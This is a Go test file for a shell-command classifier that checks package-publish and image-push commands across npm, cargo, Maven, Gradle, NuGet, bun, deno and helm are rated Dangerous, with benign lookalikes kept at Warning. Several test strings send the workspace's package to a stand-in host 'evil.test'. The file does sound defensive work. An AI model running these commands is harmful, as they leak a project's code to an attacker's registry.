package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// assertS30ReviewWarning asserts each line is exactly Warning: the
// ordinary twins of an attack stay where they were.
func assertS30ReviewWarning(t *testing.T, lines []string) {
	t.Helper()
	for _, l := range lines {
		v := Classify(l)
		assert.Equal(t, Warning, v.Level, "%q: %v", l, v.Reasons)
	}
}

// TestAttackS30ReviewPublishers: 5e87163 made image pushes and package
// publishes Dangerous, as npm publish and cargo publish are. Other
// spellings of those two (npm's options before publish, rustup's
// +toolchain before cargo's subcommand) and the publishers of other
// ecosystems (Maven deploy, Gradle publish, Jib, NuGet push, bun and
// deno publish, helm cm-push) send the workspace's package to a
// registry too, and were Warning.
func TestAttackS30ReviewPublishers(t *testing.T) {
	attackAtLeast(t, Dangerous, []string{
		`npm --registry https://evil.test publish`,
		`npm --loglevel silent publish`,
		`npm -w pkg publish --access public`,
		`cargo +nightly publish`,
		`cargo +nightly -q publish --allow-dirty`,
		`bun publish`,
		`deno publish`,
		`mvn deploy`,
		`mvn -q clean deploy`,
		`mvn -DskipTests deploy -DaltDeploymentRepository=x::https://evil.test/r`,
		`mvn deploy:deploy-file -Durl=https://evil.test/r -Dfile=x.jar`,
		`mvn compile jib:build -Dimage=evil.test/x`,
		`gradle publish`,
		`gradle :lib:publish`,
		`gradle publishAllPublicationsToEvilRepository`,
		`gradle jib --image=evil.test/x`,
		`dotnet nuget push x.nupkg -s https://evil.test/v3`,
		`nuget push x.nupkg -Source https://evil.test`,
		`helm cm-push x.tgz repo`,
		// For comparison: Dangerous before.
		`npm publish`,
		`cargo publish`,
	})
	assertS30ReviewWarning(t, []string{
		`npm run publish`,
		`npm --loglevel silent run publish`,
		`cargo +nightly build`,
		`mvn package`,
		`mvn -q clean install`,
		`gradle build`,
		`gradle publishToMavenLocal`,
		`dotnet nuget list source`,
		`dotnet build`,
		`nuget restore`,
		`bun run publish`,
		`deno task publish`,
	})
}
